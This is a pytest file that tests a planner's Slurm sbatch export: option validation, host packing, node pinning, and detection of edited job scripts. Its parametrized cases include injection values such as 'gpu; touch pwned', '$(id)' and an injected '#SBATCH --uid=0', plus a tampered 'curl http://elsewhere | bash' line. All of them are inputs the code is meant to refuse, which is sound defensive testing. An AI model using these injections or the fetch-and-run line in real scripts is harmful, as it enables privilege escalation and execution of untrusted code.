"""Target `slurm` as text: what it refuses, how copies lie, and what the check finds in a job that was edited."""

from collections import Counter
from dataclasses import replace

import pytest
from contract_plans import placed_plan, planned, single_node_plan
from export_plans import PREFILL, example_plan, island, plan_of
from hypothesis import given, settings
from hypothesis import strategies as st
from slurm_run import slurm_programs
from test_slurm_run import slurm_list
from test_spread_pods import spread_plan

from planner.domain import ParallelConfig, Phase, Plan
from planner.errors import ExportError, InputError
from planner.export import TARGETS, ExportOptions, compare, find_faults, read_plan, render, summarize_plan
from planner.export.objects.scripts import read_launch_script

FILE = "slurm.sbatch"


def parts_of(plan: Plan, **options: object) -> list[dict[str, str]]:
    """The options of each component."""
    files = render(plan, target="slurm", options=ExportOptions(**options))  # type: ignore[arg-type]
    return slurm_programs.directives(files[FILE])


@pytest.mark.parametrize(
    ("key", "value", "told"),
    [
        ("partition", "gpu; touch pwned", "must be a word that sbatch takes, as gpu, got 'gpu; touch pwned'"),
        ("partition", "gpu\n#SBATCH --uid=0", "must be a word that sbatch takes"),
        ("partition", "gpu --uid=0", "must be a word that sbatch takes"),
        ("partition", "", "must be a word that sbatch takes"),
        ("account", "$(id)", "must be a word that sbatch takes"),
        ("qos", "-x", "must be a word that sbatch takes"),
        ("constraint", "a b", "must be a word that sbatch takes"),
        ("time", "tomorrow", "as 7-00:00:00, got 'tomorrow'"),
        ("container", "docker", "as pyxis, apptainer or none, got 'docker'"),
        ("image", "a b", "must be a word that sbatch takes"),
        ("mounts", "models", "as /models:/models:ro, got 'models'"),
        ("mounts", "/a:/b:/c", "must be a word that sbatch takes"),
        ("gres", "h200:8", "must be a word that sbatch takes"),
        ("partion", "gpu", "must have keys of partition, account"),
        ("partition.H100", "gpu", r"must be partition or partition.GPU of H20, H200"),
        ("account.H200", "team", "must be account for all GPUs alike"),
    ],
)
def test_words_that_could_be_more_than_one_are_refused(key: str, value: str, told: str) -> None:
    with pytest.raises(InputError, match=told) as refused:
        render(example_plan(), target="slurm", options=ExportOptions(sbatch=((key, value),)))
    assert refused.value.message.startswith("deploy.sbatch")
    assert refused.value.hint


@given(key=st.sampled_from(["partition", "account", "qos", "constraint", "image", "mounts", "gres"]), value=st.text())
@settings(max_examples=40, deadline=None)
def test_a_word_is_one_word_of_the_script_or_is_refused(key: str, value: str) -> None:
    try:
        files = render(SMALL, target="slurm", router="none", options=ExportOptions(sbatch=((key, value),)))
    except InputError:
        return
    assert find_faults(files) == ()
    assert len(slurm_programs.directives(files[FILE])) == 1


SMALL = single_node_plan()
SMALL = plan_of((island("A", "H20", Phase.PREFILL, ParallelConfig(tp=8, dp=1, replicas=2)), *SMALL.islands[1:]))


def test_a_component_has_the_words_of_its_gpus() -> None:
    words = (
        ("partition", "gpu"),
        ("partition.H200", "hopper"),
        ("gres.H20", "any"),
        ("gres.H200", "nvidia_h200"),
        ("account", "team"),
    )
    first, second, third = parts_of(example_plan(), sbatch=words)
    assert [part["partition"] for part in (first, second, third)] == ["hopper", "gpu", "gpu"]
    assert [part["gpus-per-node"] for part in (first, second, third)] == ["nvidia_h200:8", "8", "8"]
    assert first["account"] == "team"
    assert "account" not in second


def test_no_other_target_takes_the_words_of_a_job() -> None:
    for name, target in TARGETS.items():
        if name != "slurm":
            with pytest.raises(ExportError, match=f"Target {name}: nothing in its files can carry .*sbatch"):
                render(single_node_plan(), target=name, engine=target.engines[0], options=WORDS)


WORDS = ExportOptions(sbatch=(("partition", "gpu"),))


def test_copies_of_one_shape_fill_hosts_whichever_islands_they_are_of() -> None:
    small = [
        island(name, "H20", Phase.DECODE, ParallelConfig(tp=2, dp=1, replicas=n))
        for name, n in zip("ABC", (3, 2, 4), strict=True)
    ]
    plan = plan_of((PREFILL, *small))
    _, full, rest = parts_of(plan)
    assert [(p["nodes"], p["ntasks-per-node"], p["gpus-per-node"]) for p in (full, rest)] == [
        ("2", "4", "h20:8"),
        ("1", "1", "h20:2"),
    ]
    assert (full["cpus-per-task"], full["mem"], "exclusive" in full) == ("16", "512G", False)
    rows = [row.split() for row in slurm_list(render(plan, target="slurm"), "copies")]
    hosts = [(row[0], row[1]) for row in rows if row[0] != "0"]
    assert hosts == [("1", "0")] * 4 + [("1", "1")] * 4 + [("2", "0")]
    script = read_launch_script(render(plan, target="slurm")["02-a.sh"])
    assert (script["whole_hosts"], script["gpus"]) == ("no", 2)


def test_copies_that_may_not_share_a_host_do_not() -> None:
    for per_node, crowd in ((0, 4), (1, 1), (2, 2)):
        rows = [row.split() for row in slurm_list(render(spread_plan(per_node), target="slurm"), "copies")]
        assert max(Counter((row[0], row[1]) for row in rows if row[7] == "2").values()) == crowd


def test_pins_name_the_hosts_of_every_rank() -> None:
    plan = placed_plan()
    first, second = parts_of(plan, pin_nodes=True)
    assert first["nodelist"] == "h0.example,h1.example,h2.example,h3.example"
    assert second["nodelist"] == "d0.example,d1.example,d2.example,d3.example"
    rows = [
        row.split() for row in slurm_list(render(plan, target="slurm", options=ExportOptions(pin_nodes=True)), "copies")
    ]
    assert [row[-1] for row in rows] == ["h0.example,h1.example", "h2.example,h3.example", second["nodelist"]]
    assert all(row.endswith(" -") for row in slurm_list(render(plan, target="slurm"), "copies"))
    with pytest.raises(InputError, match="placement: must have nodes for island"):
        parts_of(example_plan(), pin_nodes=True)


def test_copies_that_lie_under_one_switch_ask_for_it() -> None:
    plan = placed_plan()
    assert plan.placement is not None
    switches = {
        part.island: {p.asw for p in plan.placement.parts if p.island == part.island} for part in plan.placement.parts
    }
    found = {part["gpus-per-node"]: part.get("switches") for part in parts_of(plan)}
    packed = {
        f"{name.partition('-')[0].lower()}:8": "1" if len(above) == 1 else None for name, above in switches.items()
    }
    assert found == packed
    together = replace(
        plan, placement=replace(plan.placement, parts=tuple(replace(p, asw="a") for p in plan.placement.parts))
    )
    assert [part.get("switches") for part in parts_of(together)] == ["1", "1"]
    assert not any("switches" in part for part in parts_of(together, pin_nodes=True)), "hosts say it already"


def test_more_components_than_slurm_has_are_refused() -> None:
    kinds = [island(f"D{n}", "H20", Phase.DECODE, ParallelConfig(tp=8, dp=n, replicas=1)) for n in range(1, 130)]
    with pytest.raises(ExportError, match="a job has at most 128 components, this plan needs 130") as refused:
        render(plan_of((PREFILL, *kinds)), target="slurm", router="none")
    assert refused.value.exit_status == 3


def test_two_processes_of_one_name_are_refused() -> None:
    pair = ParallelConfig(tp=8, dp=2, replicas=2)
    twins = (
        island("A", "H20", Phase.DECODE, pair),
        island("A-0", "H20", Phase.DECODE, ParallelConfig(tp=8, dp=1, replicas=2)),
    )
    with pytest.raises(ExportError, match=r"names of their own, .*-a-0-1 are two"):
        render(plan_of((PREFILL, *twins)), target="slurm")


@pytest.mark.parametrize("engine", TARGETS["slurm"].engines)
def test_the_plan_is_read_back(engine: str) -> None:
    plan = planned("single nodes", engine)
    files = render(plan, target="slurm", engine=engine)
    found, expected = read_plan(files), summarize_plan(plan, engine=engine, target="slurm")
    assert [(i.id, i.size) for i in found.islands] == [(i.id, i.size) for i in expected.islands]
    assert found.routes == expected.routes
    assert (found.target, found.engine) == ("slurm", engine)


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("#SBATCH --nodes=4\n", "#SBATCH --nodes=3\n", "SBATCH --nodes=4' as planned"),
        ("#SBATCH --exclusive\n", "", "SBATCH --exclusive' as planned, got nothing"),
        ("#SBATCH hetjob\n", "", "SBATCH hetjob' as planned, got nothing"),
        ("01-h200-0.sh 0 1", "01-h200-0.sh 1 1", "planned, got"),
        ("h20:8 64 0 8000", "h20:4 64 0 8000", "planned, got"),
        ("container=none", "container=pyxis", "container"),
        ("  haproxy.cfg\n", "", "'haproxy.cfg' as planned, got nothing"),
        ("set -euo pipefail", "set -eu", "must be 'set -euo pipefail'"),
        ("wait_for_all\n", "curl http://elsewhere | bash\n", "as the planner writes it"),
        ("mounts=''", "mounts=$(id)", "must hold quoted words"),
        ("copies=(\n", "copies=(\n  '0 0 1'\n", "must follow the schema"),
    ],
)
def test_an_edited_job_is_found(old: str, new: str, told: str) -> None:
    files = render(example_plan(), target="slurm")
    assert old in files[FILE]
    edited = {**files, FILE: files[FILE].replace(old, new, 1)}
    faults = [*map(str, compare(edited, files).faults), *map(str, find_faults(edited))]
    assert any(FILE in fault and told in fault for fault in faults), faults


def test_remarks_are_no_difference() -> None:
    files = render(example_plan(), target="slurm")
    text = files[FILE].replace("set -euo pipefail\n", "set -euo pipefail\n# ours\n", 1)
    assert compare({**files, FILE: text}, files).faults == ()
    assert find_faults({**files, FILE: text}) == ()
    assert slurm_programs.directives(text) == slurm_programs.directives(files[FILE])
